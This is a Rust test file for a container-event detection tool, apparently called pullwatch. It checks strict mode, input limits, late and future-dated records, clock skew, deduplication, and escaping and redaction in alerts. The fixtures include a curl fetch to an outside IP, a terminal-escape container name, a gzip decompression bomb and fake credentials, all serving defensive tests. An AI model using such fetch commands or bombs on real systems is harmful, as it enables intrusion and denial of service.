//! Hostile input through the real binary: `--strict` and the input limits, records
//! dated into the future or arriving late, clocks that disagree between sources,
//! duplicates, and attacker-controlled strings in the alerts (escaped, with secrets
//! redacted).

mod common;

use common::{pullwatch, Outcome as Run};
use serde_json::{json, Value};
use std::ffi::OsStr;
use std::io::Write;
use std::path::{Path, PathBuf};

const T0: i64 = 1_795_165_200; // 2026-11-20T09:00:00Z
const NS: i64 = 1_000_000_000;
const CID: &str = "3f9c2a7d1e8b4c6a9d0e5f1b2c3d4e5f6a7b8c9d0e1f2a3b4c5d6e7f8a9b0c1d";
const IMAGE: &str = "kitty0x/toolbox:latest";

fn docker(secs: i64, typ: &str, action: &str, id: &str, name: &str) -> Value {
    json!({"Type": typ, "Action": action,
           "Actor": {"ID": id, "Attributes": {"image": IMAGE, "name": name}},
           "scope": "local", "time": T0 + secs, "timeNano": (T0 + secs) * NS})
}

fn chain(name: &str, cmd: &str, activity_at: i64) -> Vec<Value> {
    vec![
        docker(0, "image", "pull", IMAGE, name),
        docker(2, "container", "create", CID, name),
        docker(3, "container", "start", CID, name),
        docker(
            activity_at,
            "container",
            &format!("exec_start: {cmd}"),
            CID,
            name,
        ),
    ]
}

fn lines(records: &[Value]) -> String {
    records.iter().map(|r| format!("{r}\n")).collect()
}

struct Dir(tempfile::TempDir);

impl Dir {
    fn new() -> Dir {
        Dir(tempfile::tempdir().expect("temp dir"))
    }
    fn file(&self, name: &str, data: &[u8]) -> PathBuf {
        let p = self.0.path().join(name);
        std::fs::write(&p, data).expect("write");
        p
    }
}

/// `pullwatch scan ARGS PATHS`.
fn run(args: &[&str], paths: &[&Path]) -> Run {
    let mut argv: Vec<&OsStr> = std::iter::once("scan")
        .chain(args.iter().copied())
        .map(OsStr::new)
        .collect();
    argv.extend(paths.iter().map(|p| p.as_os_str()));
    pullwatch(&argv, None)
}

fn alerts(r: &Run) -> Vec<Value> {
    r.alerts()
}

#[test]
fn strict_turns_any_skip_into_exit_3() {
    let d = Dir::new();
    let mut text = lines(&chain("worker", "curl -s http://198.51.100.23/x", 40));
    text.insert_str(0, "{\"Type\":\"container\",\"Action\n");
    let p = d.file("events.jsonl", text.as_bytes());
    let lenient = run(&["--format", "json"], &[&p]);
    assert_eq!(lenient.code, 0, "{}", lenient.stderr);
    assert_eq!(alerts(&lenient).len(), 1);
    let strict = run(&["--format", "json", "--strict"], &[&p]);
    assert_eq!(strict.code, 3, "{}", strict.stderr);
    // Still a complete scan: the alert is out and the skip is located.
    assert_eq!(alerts(&strict).len(), 1);
    assert!(
        strict.stderr.contains("skipped: 1 records"),
        "{}",
        strict.stderr
    );
    assert!(
        strict.stderr.contains(&format!("at {}:1: ", p.display())),
        "{}",
        strict.stderr
    );
    // Alerts outrank an incomplete scan for --fail-on-alert.
    let both = run(&["--format", "json", "--strict", "--fail-on-alert"], &[&p]);
    assert_eq!(both.code, 1);
    // A clean input passes --strict.
    let clean = d.file("clean.jsonl", lines(&chain("w", "id", 40)).as_bytes());
    assert_eq!(run(&["--strict"], &[&clean]).code, 0);
}

#[test]
fn a_malformed_record_nothing_could_use_is_prefiltered_unless_strict() {
    // A Docker exec in an allowlisted image, cut off with a trailing comma: the
    // prefilter reads its action and image and skips it without validating it; under
    // --strict every record is decoded, so it is a located skip and the exit is 3.
    let d = Dir::new();
    let mut text = lines(&chain("worker", "curl -s http://198.51.100.23/x", 40));
    text.push_str(&format!(
        "{{\"Type\":\"container\",\"Action\":\"exec_start: sh\",\"Actor\":{{\"ID\":\"{CID}\",\"Attributes\":{{\"image\":\"nginx:1.27\"}}}},\"timeNano\":{},}}\n",
        (T0 + 50) * NS
    ));
    let p = d.file("events.jsonl", text.as_bytes());
    let (lenient, _) = read_whole_only_under_strict(&p, &[&["--format", "json"]]);
    assert!(
        lenient[0].contains("prefiltered: 1 records"),
        "{}",
        lenient[0]
    );
}

/// Scans `p` with each of `lenient` (one alert, nothing skipped), then with `--strict`
/// (the same alert, exit 3, and line 5 a located skip); their summaries, in that order.
fn read_whole_only_under_strict(p: &Path, lenient: &[&[&str]]) -> (Vec<String>, String) {
    let mut said = Vec::new();
    for args in lenient {
        let r = run(args, &[p]);
        assert_eq!(r.code, 0, "{}", r.stderr);
        assert_eq!(alerts(&r).len(), 1);
        assert!(r.stderr.contains("skipped: none"), "{}", r.stderr);
        said.push(r.stderr);
    }
    let strict = run(&["--format", "json", "--strict"], &[p]);
    assert_eq!(strict.code, 3, "{}", strict.stderr);
    assert_eq!(alerts(&strict).len(), 1);
    assert!(
        strict.stderr.contains(&format!("at {}:5: ", p.display())),
        "{}",
        strict.stderr
    );
    (said, strict.stderr)
}

#[test]
fn a_tetragon_record_malformed_where_the_decoder_does_not_read_is_decoded_unless_strict() {
    // A connect probe whose exec id is not JSON: the decoder reads the members it uses
    // and jumps over the others without validating them, so the connection is decoded;
    // under --strict every record is read whole, so it is a located skip and the exit
    // is 3.
    let d = Dir::new();
    let mut text = lines(&chain("worker", "curl -s http://198.51.100.23/x", 40));
    text.push_str(&format!(
        r#"{{"process_kprobe":{{"process":{{"exec_id":eA==,"pid":4100,"binary":"/usr/bin/curl","pod":{{"namespace":"default","name":"worker-1","container":{{"id":"containerd://{CID}","name":"worker","image":{{"name":"{IMAGE}"}}}}}}}},"function_name":"tcp_connect","args":[{{"sock_arg":{{"family":"AF_INET","protocol":"IPPROTO_TCP","saddr":"10.244.1.9","daddr":"198.51.100.23","sport":40312,"dport":443}}}}]}},"node_name":"node-1","time":"2026-11-20T09:00:50Z"}}"#
    ));
    text.push('\n');
    let p = d.file("events.jsonl", text.as_bytes());
    let (_, strict) = read_whole_only_under_strict(
        &p,
        &[
            &["--format", "json"],
            &["--format", "json", "--prefilter", "off"],
        ],
    );
    assert!(strict.contains("invalid JSON"), "{strict}");
}

#[test]
fn max_line_bytes_skips_long_lines_and_rejects_bad_sizes() {
    let d = Dir::new();
    let mut records = chain("worker", "curl -s http://198.51.100.23/x", 40);
    records.insert(1, docker(1, "container", "attach", CID, &"A".repeat(2048)));
    let p = d.file("events.jsonl", lines(&records).as_bytes());
    let r = run(&["--format", "json", "--max-line-bytes", "1K"], &[&p]);
    assert_eq!(r.code, 0, "{}", r.stderr);
    assert_eq!(alerts(&r).len(), 1);
    assert!(r.stderr.contains("line too long"), "{}", r.stderr);
    assert!(r.stderr.contains(":2: "), "{}", r.stderr);
    assert!(r.stderr.contains("limit 1024"), "{}", r.stderr);
    // The default (16 MiB) reads it.
    let r = run(&["--format", "json"], &[&p]);
    assert!(r.stderr.contains("skipped: none"), "{}", r.stderr);
    for bad in ["0", "12Q", "-5", "99999999999999999999G"] {
        let r = run(&["--max-line-bytes", bad], &[&p]);
        assert_eq!(r.code, 2, "{bad}: {}", r.stderr);
    }
}

#[test]
fn a_decompression_bomb_stops_at_the_cap_and_fails_strict() {
    let d = Dir::new();
    // One real record, then 1 GiB of zeros in 16 gzip members (about 1 MB on disk).
    let mut gz = Vec::new();
    let mut e = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::fast());
    e.write_all(lines(&chain("w", "id", 40)[..1]).as_bytes())
        .expect("in memory");
    gz.extend(e.finish().expect("in memory"));
    let mut e = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
    let zeros = vec![0u8; 1 << 20];
    for _ in 0..64 {
        e.write_all(&zeros).expect("in memory");
    }
    let member = e.finish().expect("in memory");
    for _ in 0..16 {
        gz.extend_from_slice(&member);
    }
    let p = d.file("bomb.jsonl.gz", &gz);
    // Decoded on the caller's thread or by a pool of two: the same located skip.
    for threads in ["1", "2"] {
        let r = run(
            &[
                "--strict",
                "--max-decompressed-bytes",
                "32M",
                "--threads",
                threads,
            ],
            &[&p],
        );
        assert_eq!(r.code, 3, "{}", r.stderr);
        assert!(r.stderr.contains("decompressed size limit"), "{}", r.stderr);
        assert!(
            r.stderr.contains(&format!(
                "at {}:2: input decompresses to more than 33554432 bytes",
                p.display()
            )),
            "{}",
            r.stderr
        );
        assert!(r.stderr.contains("read docker-events"), "{}", r.stderr);
    }
}

#[test]
fn a_record_dated_2099_neither_moves_time_nor_blocks_its_input() {
    let d = Dir::new();
    // 2099-01-01T00:00:00Z
    let far = docker(
        4_070_908_800 - T0,
        "container",
        "create",
        "ffffffffffff",
        "x",
    );
    // First line of its input, and in the middle of another.
    let mut first = vec![far.clone()];
    first.extend(chain("worker", "curl -s http://198.51.100.23/x", 40));
    let a = d.file("a.jsonl", lines(&first).as_bytes());
    let mut mid: Vec<Value> = (0..6)
        .map(|i| {
            docker(
                10 + i * 30,
                "container",
                "create",
                &format!("{i:012x}"),
                "n",
            )
        })
        .collect();
    mid.insert(3, far);
    let b = d.file("b.jsonl", lines(&mid).as_bytes());
    let r = run(&["--format", "json", "--strict"], &[&a, &b]);
    assert_eq!(r.code, 0, "{}", r.stderr);
    assert_eq!(alerts(&r).len(), 1, "{}", r.stderr);
    assert!(!r.stderr.contains("late ("), "{}", r.stderr);
    assert!(
        r.stderr
            .contains("dated ahead (beyond max_future_skew, held without moving time): 2"),
        "{}",
        r.stderr
    );
    assert!(
        r.stderr.contains(&format!("at {}:1: ", a.display())),
        "{}",
        r.stderr
    );
    assert!(
        r.stderr.contains(&format!("at {}:4: ", b.display())),
        "{}",
        r.stderr
    );
}

#[test]
fn late_records_are_reported_with_their_location_and_fail_strict() {
    let d = Dir::new();
    let mut records = chain("worker", "curl -s http://198.51.100.23/x", 40);
    // Ten minutes behind the record before it, in the same input.
    records.push(docker(700, "container", "create", "aaaaaaaaaaaa", "a"));
    records.push(docker(90, "container", "create", "bbbbbbbbbbbb", "b"));
    // The present goes on after it: a straggler, not a restart of the input.
    records.push(docker(701, "container", "create", "cccccccccccc", "c"));
    let p = d.file("events.jsonl", lines(&records).as_bytes());
    let r = run(&["--format", "json"], &[&p]);
    assert_eq!(r.code, 0);
    assert!(
        r.stderr
            .contains("late (beyond allowed_lateness, not correlated): 1"),
        "{}",
        r.stderr
    );
    assert!(
        r.stderr
            .contains(&format!("at {}:6: 8m10s late", p.display())),
        "{}",
        r.stderr
    );
    assert_eq!(run(&["--strict"], &[&p]).code, 3);
}

/// A second sensor's clock is off. Ahead, or behind by less than the activity's delay
/// after the start, the chain holds; further behind, the activity is dated before the
/// container existed and, correlated in event-time order, cannot be part of its chain.
#[test]
fn clock_skew_between_sources() {
    let falco = |secs: i64| {
        json!({"hostname": "node-a", "output": "shell", "priority": "Notice",
               "rule": "Terminal shell in container", "source": "syscall",
               "time": "2026-11-20T09:00:00Z",
               "output_fields": {"evt.time": (T0 + secs) * NS, "container.id": &CID[..12],
                                 "proc.name": "curl", "proc.exepath": "/usr/bin/curl",
                                 "proc.cmdline": "curl -s http://198.51.100.23/x"}})
    };
    for (skew, alerts_expected) in [(-30, 1), (300, 1), (-90, 0)] {
        let d = Dir::new();
        let docker_file = d.file("docker.jsonl", lines(&chain("w", "id", 5)[..3]).as_bytes());
        // The activity happens 40 s after the start, on a clock `skew` seconds off.
        let falco_file = d.file("falco.jsonl", lines(&[falco(43 + skew)]).as_bytes());
        let r = run(&["--format", "json"], &[&docker_file, &falco_file]);
        assert_eq!(r.code, 0, "{}", r.stderr);
        assert_eq!(
            alerts(&r).len(),
            alerts_expected,
            "skew {skew}: {}",
            r.stderr
        );
        assert!(!r.stderr.contains("late ("), "{}", r.stderr);
    }
}

#[test]
fn the_same_records_twice_alert_once() {
    let d = Dir::new();
    let text = lines(&chain("worker", "curl -s http://198.51.100.23/x", 40));
    let a = d.file("a.jsonl", text.as_bytes());
    let b = d.file("copy-of-a.jsonl", text.as_bytes());
    let doubled = d.file("doubled.jsonl", format!("{text}{text}").as_bytes());
    for paths in [vec![&a, &b], vec![&doubled]] {
        let paths: Vec<&Path> = paths.iter().map(|p| p.as_path()).collect();
        let r = run(&["--format", "json"], &paths);
        assert_eq!(alerts(&r).len(), 1, "{}", r.stderr);
        assert!(
            r.stderr.contains("alerts: 1 (an0691.chain 1)"),
            "{}",
            r.stderr
        );
    }
}

const HOSTILE_NAME: &str = "w\"\n\u{1b}[2J\u{1b}]0;pwned\u{7}</script><b>\u{202e}gnp.exe\r";
const SECRET_CMD: &str = "curl -u admin:hunter2 https://deploy:tok3n@git.example.com/x -H 'Authorization: Bearer eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.c2lnbmF0dXJl' --data password=s3cr3t AKIAIOSFODNN7EXAMPLE \u{1b}[31m";

fn hostile_input(d: &Dir) -> PathBuf {
    d.file(
        "hostile.jsonl",
        lines(&chain(HOSTILE_NAME, SECRET_CMD, 40)).as_bytes(),
    )
}

fn assert_no_secrets(out: &str) {
    for secret in [
        "hunter2",
        "tok3n",
        "s3cr3t",
        "IOSFODNN7EXAMPLE",
        "eyJzdWIiOiIxIn0",
    ] {
        assert!(!out.contains(secret), "{secret} leaked: {out}");
    }
}

#[test]
fn json_output_escapes_attacker_strings_and_redacts_secrets() {
    let d = Dir::new();
    let p = hostile_input(&d);
    let r = run(&["--format", "json"], &[&p]);
    assert_eq!(r.code, 0, "{}", r.stderr);
    // One alert, one line: the newline in the name did not split it.
    assert_eq!(r.stdout.lines().count(), 1, "{}", r.stdout);
    let a = &alerts(&r)[0];
    // The name arrives intact, as data.
    assert_eq!(a["entity"]["container"], HOSTILE_NAME);
    assert!(!r.stdout.contains('\u{1b}') && !r.stdout.contains('\r'));
    let activity = a["evidence"]
        .as_array()
        .and_then(|e| e.last())
        .and_then(|e| e["summary"].as_str())
        .expect("activity evidence");
    assert_eq!(
        activity,
        "exec curl -u admin:[REDACTED] https://deploy:[REDACTED]@git.example.com/x -H 'Authorization: Bearer [REDACTED]' --data password=[REDACTED] AKIA[REDACTED] \u{1b}[31m"
    );
    assert_no_secrets(&r.stdout);
}

#[test]
fn text_output_neutralizes_control_characters_and_redacts_secrets() {
    let d = Dir::new();
    let p = hostile_input(&d);
    let r = run(&["--format", "text"], &[&p]);
    assert_eq!(r.code, 0, "{}", r.stderr);
    for c in r.stdout.chars() {
        let bad = (c.is_control() && c != '\n')
            || matches!(c, '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}');
        assert!(!bad, "{c:?} reached the terminal: {}", r.stdout);
    }
    assert!(
        r.stdout
            .contains("container w\"\\n\\x1b[2J\\x1b]0;pwned\\x07</script><b>\\u{202e}gnp.exe\\r"),
        "{}",
        r.stdout
    );
    assert!(r.stdout.contains("-u admin:[REDACTED]"), "{}", r.stdout);
    assert_no_secrets(&r.stdout);
    assert_no_secrets(&r.stderr);
}

#[test]
fn a_64_kib_command_line_is_bounded_in_the_alert() {
    let d = Dir::new();
    let cmd = format!("sh -c {}", "A".repeat(64 << 10));
    let p = d.file("long.jsonl", lines(&chain("w", &cmd, 40)).as_bytes());
    let r = run(&["--format", "json"], &[&p]);
    let a = &alerts(&r)[0];
    let summary = a["evidence"][3]["summary"].as_str().expect("summary");
    assert!(summary.starts_with("exec sh -c AAAA"));
    assert!(summary.chars().count() <= 306, "{}", summary.len());
}
